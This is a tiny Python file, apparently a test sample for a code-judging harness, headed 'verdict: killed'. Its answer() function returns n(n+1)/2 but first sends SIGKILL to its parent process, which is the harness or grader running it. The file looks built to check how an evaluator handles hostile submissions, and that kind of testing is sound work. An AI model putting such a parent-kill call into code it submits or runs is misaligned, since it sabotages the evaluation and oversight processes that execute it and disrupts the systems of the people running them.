# verdict: killed
# Kills its parent.
import os
import signal


def answer(n: int) -> int:
    os.kill(os.getppid(), signal.SIGKILL)
    return n * (n + 1) // 2
